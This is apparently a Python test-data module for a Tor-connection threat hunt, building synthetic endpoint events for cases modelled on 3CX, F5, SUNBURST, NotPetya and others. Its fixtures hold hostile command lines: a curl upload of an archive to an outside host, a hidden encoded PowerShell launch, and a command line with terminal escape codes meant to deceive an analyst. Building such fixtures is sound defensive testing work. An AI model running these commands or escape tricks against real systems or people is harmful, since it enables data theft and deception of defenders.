"""The story of the demo archive: the supply-chain table of the hunt's documentation, case by case, as events.

Each case says what a hunt must make of it: one line per expected finding with direction, count and level, written here
by hand and checked against the naive reference when the data is made.
"""

import json
from dataclasses import dataclass, field

from .ordinary import RESOLVER, user_of
from .rows import date_of, event

OUT, IN, UNKNOWN = "Outbound to Tor", "Inbound from Tor", "Unknown direction"


@dataclass
class Case:
    name: str
    told: str
    events: list
    # (device, address, direction, count, level)
    findings: list = field(default_factory=list)


def cases(reporter):
    makers = [
        three_cx,
        f5,
        sunburst,
        notpetya,
        token_replay,
        tor_browser,
        research,
        mapped,
        upper_v6,
        unknown,
        failed,
        hostile,
        silent,
        comings_and_goings,
    ]
    return [make(reporter) for make in makers]


def three_cx(r):
    command = '"C:\\Users\\Public\\3CXDesktopApp\\app-18.12.416\\3CXDesktopApp.exe" --autoLaunch'

    def row(time, device, remote, action="ConnectionSuccess", **more):
        return event(r, time, device, action, remote, 443, "3CXDesktopApp.exe", user_of(device), command, **more)

    first, second = "wks-sales-03", "wks-sales-11"
    hourly = "ConnectionSuccessAggregatedReport"
    events = [
        row("2026-03-18T09:14:02.1234567", first, "198.51.100.23"),
        row("2026-03-20T08:02:41.18835", first, "198.51.100.23", RemoteUrl="pbx-status.example.org"),
        row("2026-03-22T08:05:00.295067", first, "198.51.100.23"),
        row("2026-03-26T10:00:00", first, "198.51.100.23", hourly, AdditionalFields='{"uniqueEventsAggregated":"37"}'),
        row("2026-03-30T07:59:59.75", first, "198.51.100.23"),
        row("2026-04-01T11:00:00", first, "198.51.100.23", hourly, AdditionalFields='{"uniqueEventsAggregated":12}'),
        # Unreadable JSON decides nothing; the ActionType does.
        row("2026-03-23T09:31:10.5", second, "198.51.100.23", AdditionalFields='{"direction":'),
        row("2026-03-29T13:40:12.25", second, "198.51.100.23"),
        row("2026-03-29T13:41:12.25", second, "198.51.100.23"),
        row("2026-03-21T09:30:00.1", second, "198.51.100.24"),
        row("2026-03-21T09:45:00.2", second, "198.51.100.24"),
    ]
    told = "The desktop client dials Tor exits from two workstations. The indicator on .24 was published after the last event."
    findings = [
        (first, "198.51.100.23", OUT, 6, "CRITICAL"),
        (second, "198.51.100.23", OUT, 3, "CRITICAL"),
        (second, "198.51.100.24", OUT, 2, "CRITICAL"),
    ]
    return Case("3CX 2023", told, events, findings)


def f5(r):
    device = "srv-app-02"
    curl = "curl -sk --max-time 20 -T /tmp/.n/cfg.tgz https://198.51.100.41/u"
    scan = "python3 /tmp/.n/scan.py --net 100.64.20.0/24 --report https://198.51.100.42:9001/"

    def row(time, remote, port, process, command):
        fields = json.dumps({"InitiatingProcessPosixEffectiveUser": {"Name": "www-data", "PosixUserId": 33}})
        folder = {"InitiatingProcessFolderPath": f"/usr/bin/{process}", "InitiatingProcessParentFileName": "httpd"}
        return event(
            r,
            time,
            device,
            "ConnectionRequest",
            remote,
            port,
            process,
            "www-data",
            command,
            AdditionalFields=fields,
            **folder,
        )

    events = [
        row("2026-03-11T02:10:00.4", "198.51.100.41", 443, "curl", curl),
        row("2026-03-11T02:25:30.9", "198.51.100.41", 443, "curl", curl),
        row("2026-03-12T03:00:01", "198.51.100.41", 443, "curl", curl),
        row("2026-03-16T01:12:44.001", "198.51.100.41", 8443, "python3", scan),
        row("2026-03-12T03:05:09.3", "198.51.100.42", 9001, "python3", scan),
        row("2026-03-12T03:35:09.3", "198.51.100.42", 9001, "python3", scan),
        row("2026-03-17T04:05:09.3", "198.51.100.42", 9001, "python3", scan),
    ]
    # Discovery inside the network: nothing for a Tor hunt.
    events += [row(f"2026-03-12T02:58:{n:02d}", f"100.64.20.{n + 5}", 22, "python3", scan) for n in range(12)]
    told = "The appliance itself is not onboarded; the server behind it uploads with curl and scans, over exits. Indicators below 80."
    findings = [(device, "198.51.100.41", OUT, 4, "HIGH"), (device, "198.51.100.42", OUT, 3, "HIGH")]
    return Case("F5 BIG-IP", told, events, findings)


def sunburst(r):
    device, process = "srv-orion-01", "SolarWinds.BusinessLayerHost.exe"

    def row(time, remote, **more):
        return event(r, time, device, "ConnectionSuccess", remote, 443, process, "svc-orion", f'"{process}"', **more)

    events = [
        row(f"{day}.004", "203.0.113.70")
        for day in ("2026-03-13T21:00:17", "2026-03-17T21:02:51", "2026-03-27T20:58:03")
    ]
    for n, day in enumerate(("2026-03-10", "2026-03-12", "2026-03-14", "2026-03-18", "2026-03-26")):
        query = f"{'7sbvaemscs0mc925tb99'[n:]}.appsync-api.eu-west-1.avsvmlook.example"
        fields = json.dumps({"direction": "Out", "query": query, "qtype_name": "A", "answers": '["192.0.2.121"]'})
        events.append(
            event(
                r,
                f"{day}T20:30:1{n}",
                device,
                "DnsConnectionInspected",
                RESOLVER,
                53,
                Protocol="Udp",
                AdditionalFields=fields,
            )
        )
        events.append(row(f"{day}T20:30:2{n}", "192.0.2.121", RemoteUrl=query))
    told = "Its Tor C2 (an address inside the listed /28) is found; its DNS C2 on ordinary addresses is not. The indicator on the exit was deleted."
    return Case("SUNBURST", told, events, [(device, "203.0.113.70", OUT, 3, "MEDIUM")])


def notpetya(r):
    device, remote = "wks-acc-02", "192.0.2.190"
    events = [
        event(
            r,
            f"{day}T06:30:00",
            device,
            "ConnectionSuccess",
            remote,
            80,
            "ezvit.exe",
            user_of(device),
            '"C:\\ProgramData\\Medoc\\ezvit.exe"',
            RemoteUrl="http://upd.me-doc-updates.example/last.ver",
        )
        for day in ("2026-03-09", "2026-03-16", "2026-03-23", "2026-03-30")
    ]
    spread = 'rundll32.exe "C:\\Windows\\perfc.dat",#1 60'
    events += [
        event(
            r,
            f"2026-03-30T10:30:0{n}",
            device,
            "ConnectionFailed",
            f"100.64.21.{n + 2}",
            445,
            "rundll32.exe",
            "system",
            spread,
        )
        for n in range(6)
    ]
    return Case(
        "NotPetya / M.E.Doc",
        "The update server is an ordinary address and the worm spreads inside: no Tor, nothing to find.",
        events,
    )


def token_replay(r):
    adfs, vpn, owa = "srv-adfs-01", "srv-vpn-01", "srv-owa-01"

    def accepted(time, device, remote, port, process):
        return event(
            r,
            time,
            device,
            "InboundConnectionAccepted",
            remote,
            port,
            process,
            "system",
            LocalPort=443,
            AdditionalFields="",
        )

    service = "Microsoft.IdentityServer.ServiceHost.exe"
    events = [
        accepted("2026-04-01T03:11:05.5", adfs, "198.51.100.102", 50_211, service),
        accepted("2026-04-02T03:12:06.5", adfs, "198.51.100.102", 41_877, service),
        accepted("2026-04-03T03:13:07.5", adfs, "198.51.100.102", 61_002, service),
        accepted("2026-04-04T22:40:00.25", vpn, "198.51.100.103", 38_114, "ras-gateway.exe"),
        # The key in AdditionalFields says In; there is no process on inspected rows.
        event(
            r,
            "2026-04-04T22:40:01.25",
            vpn,
            "SslConnectionInspected",
            "198.51.100.103",
            38_114,
            LocalPort=443,
            AdditionalFields='{"direction":"In","server_name":"vpn.larchfield.example"}',
        ),
        event(
            r,
            "2026-03-28T04:00:00.125",
            owa,
            "InboundConnectionAttempt",
            "198.51.100.102",
            46_112,
            LocalPort=443,
            AdditionalFields='{"direction":"In","Tcp Flags":2}',
        ),
    ]
    told = "An exit reaches the onboarded AD FS, VPN and OWA hosts. LOW is no verdict (LOW* where accepted). Replay against a cloud service is not in this table."
    findings = [
        (adfs, "198.51.100.102", IN, 3, "LOW"),
        (vpn, "198.51.100.103", IN, 2, "LOW"),
        (owa, "198.51.100.102", IN, 1, "LOW"),
    ]
    return Case("OAuth token replay", told, events, findings)


def tor_browser(r):
    device = "lap-042"
    folder = "C:\\Users\\mallow\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor"
    command = f'"{folder}\\tor.exe" -f torrc ControlPort 9151 SocksPort 9150'

    def row(time, remote, port):
        return event(
            r,
            time,
            device,
            "ConnectionSuccess",
            remote,
            port,
            "tor.exe",
            "mallow",
            command,
            InitiatingProcessFolderPath=folder,
            InitiatingProcessParentFileName="firefox.exe",
        )

    events = [
        row("2026-03-19T18:20:11.1", "198.51.100.150", 443),
        row("2026-03-22T19:00:00.1239", "198.51.100.150", 443),
        row("2026-03-22T19:30:00.5", "198.51.100.150", 443),
        row("2026-03-31T18:10:00.777", "198.51.100.150", 443),
        row("2026-04-06T18:00:00.001", "198.51.100.150", 443),
        row("2026-03-19T18:20:12.1", "198.51.100.151", 9_001),
        row("2026-04-06T18:00:01.001", "198.51.100.151", 9_001),
    ]
    # Delivery copies: byte for byte; in the other part in milliseconds (so the earlier time stays); without the account.
    copies = [
        events[0] | {},
        events[0] | {},
        events[1] | {"_part": 1},
        events[4] | {"InitiatingProcessAccountName": None},
    ]
    told = "A user runs Tor Browser (tor client traces). Four delivery copies are removed. The indicator on .150 says `tor` and nothing else, which is no TI hit; the one on .151 was inactive since 2025."
    findings = [(device, "198.51.100.150", OUT, 5, "MEDIUM"), (device, "198.51.100.151", OUT, 2, "MEDIUM")]
    return Case("Tor Browser", told, events + copies, findings)


def research(r):
    device = "lap-research-01"
    times = [
        "2026-03-10T12:00:00",
        "2026-03-17T12:00:00",
        "2026-03-25T12:00:00.123456789",
        "2026-03-31T12:00:00",
        "2026-04-07T12:00:00",
    ]
    events = [
        event(r, t, device, "ConnectionSuccess", "198.51.100.152", 9_001, "tor.exe", "g.aspen", "tor.exe -f lab.torrc")
        for t in times
    ]
    told = "An approved research laptop: a finding until `--exclude testdata/demo/exclude.csv` removes it."
    return Case("Approved research", told, events, [(device, "198.51.100.152", OUT, 5, "MEDIUM")])


def mapped(r):
    device = "lap-017"

    def row(time, remote):
        return event(r, time, device, "ConnectionSuccess", remote, 443, "msedge.exe", user_of(device))

    events = [
        row("2026-03-20T15:00:00.0000009", "::ffff:198.51.100.160"),
        row("2026-03-27T15:00:00.5", "::FFFF:c633:64a0"),
        row("2026-04-01T15:00:00.5", "198.51.100.160"),
    ]
    told = "One exit in three spellings is one finding. Its indicator was revoked, with an end date after the first events."
    return Case("IPv4-mapped exit", told, events, [(device, "198.51.100.160", OUT, 3, "HIGH")])


def upper_v6(r):
    device = "lap-023"
    spellings = [
        ("2026-03-22T16:00:00.25", "2001:0DB8:0077:0000:0000:0000:0000:0033"),
        ("2026-04-02T16:00:00.25", "2001:db8:77::33"),
    ]
    events = [event(r, t, device, "ConnectionSuccess", a, 443, "chrome.exe", user_of(device)) for t, a in spellings]
    told = "An IPv6 exit, once in upper case and uncompressed. Its indicator had expired a year before."
    return Case("IPv6 exit", told, events, [(device, "2001:db8:77::33", OUT, 2, "HIGH")])


def unknown(r):
    device, remote = "wks-lab-01", "198.51.100.171"
    flags = '{"Tcp Flags":18,"Packet Size":66}'
    events = [
        event(
            r,
            "2026-03-16T10:00:00.5",
            device,
            "ConnectionFound",
            remote,
            443,
            "svchost.exe",
            "system",
            LocalPort=51_515,
        ),
        event(
            r,
            "2026-03-17T10:00:00.5",
            device,
            "InboundConnectionAcknowledged",
            remote,
            443,
            LocalPort=56_468,
            AdditionalFields=flags,
        ),
        event(
            r,
            "2026-03-18T10:00:00.5",
            device,
            "NetworkSignatureInspected",
            remote,
            443,
            LocalPort=51_515,
            Protocol=None,
            AdditionalFields='{"SignatureName":"SSL_Hello"}',
        ),
    ]
    return Case(
        "Direction not told",
        "No event says who opened the connection: unknown, never inbound.",
        events,
        [(device, remote, UNKNOWN, 3, "LOW")],
    )


def failed(r):
    device, remote = "wks-hr-05", "198.51.100.180"
    times = ["2026-04-04T09:00:00.5", "2026-04-04T09:00:30.5", "2026-04-04T09:01:00.5"]
    events = [
        event(
            r,
            t,
            device,
            "ConnectionFailed",
            remote,
            9_001,
            "powershell.exe",
            user_of(device),
            "powershell.exe -nop -w hidden -enc SQBFAFgA",
        )
        for t in times
    ]
    events.append(
        event(
            r,
            "2026-04-06T10:00:00",
            device,
            "ConnectionFailedAggregatedReport",
            remote,
            9_001,
            "powershell.exe",
            user_of(device),
            AdditionalFields='{"uniqueEventsAggregated":"18"}',
        )
    )
    told = "Tried, never connected: a finding whose FailedCount equals Count. Its indicator was revoked without an end date, so it never matches."
    return Case("Failed only", told, events, [(device, remote, OUT, 4, "MEDIUM")])


def hostile(r):
    device, remote = "kiosk-02", "198.51.100.190"
    command = 'wscript.exe "C:\\k\\\x1b]0;all clear\x07\x1b[2J\x1b[1;1Hno findings.js" \u202egnp.exe'
    events = [
        event(
            r,
            "2026-03-25T23:59:59.999999999",
            device,
            "ConnectionSuccess",
            remote,
            443,
            "wscript.exe",
            "kiosk",
            command,
        )
    ]
    return Case(
        "Hostile command line",
        "The command line tries to clear the analyst's screen.",
        events,
        [(device, remote, OUT, 1, "MEDIUM")],
    )


def silent(r):
    """Rows that look like hits and are none; coverage counts the first five."""
    near = "wks-mkt-01"
    edge = ("msedge.exe", user_of(near))
    events = [
        event(
            r,
            None,
            "wks-sales-03",
            "ConnectionSuccess",
            "198.51.100.23",
            443,
            *edge,
            Timestamp="0000-00-00T00:00:00Z",
            _date="2026-03-20",
        ),
        event(r, None, "kiosk-02", "ConnectionSuccess", "198.51.100.190", 443, *edge, _date="2026-04-05"),
        event(r, "2026-03-23T11:00:00", near, "ConnectionSuccess", "198.51.100.23:443", 443, *edge),
        event(r, "2026-03-23T11:00:01", near, "ConnectionSuccess", "198.051.100.023", 443, *edge),
        event(r, "2026-03-26T11:00:02", near, "ConnectionAttempt", "-", None),
        event(r, "2026-03-27T11:00:03", near, "ConnectionSuccess", "203.0.113.80", 443, *edge),
        event(
            r,
            "2026-03-30T11:00:04",
            near,
            "ConnectionSuccess",
            "192.0.2.66",
            443,
            *edge,
            RemoteUrl="https://198.51.100.23/",
        ),
    ]
    told = "No readable time (2 rows), no readable address (3 rows), the neighbour of a listed prefix, a URL that only mentions an exit: counted or ignored, never a finding."
    return Case("Near misses", told, events)


def comings_and_goings(r):
    early, late = "wks-fin-07", "wks-fin-04"

    def row(time, device, remote):
        return event(r, time, device, "ConnectionSuccess", remote, 443, "msedge.exe", user_of(device))

    events = [
        row("2026-03-12T15:30:00.5", early, "198.51.100.62"),
        row("2026-03-28T11:20:00.5", late, "198.51.100.61"),
    ]
    told = "One address joins the lists at the next midnight, which is within the tolerance; one left them three weeks before, so that the dates leave it out (`--tor-match loose` does not)."
    return Case("Before and after", told, events, [(early, "198.51.100.62", OUT, 1, "MEDIUM")])


def date_key(row):
    """The date folder of a row: its own, or the one in which a row without a readable time was delivered."""
    return row.get("_date") or date_of(row["Timestamp"])
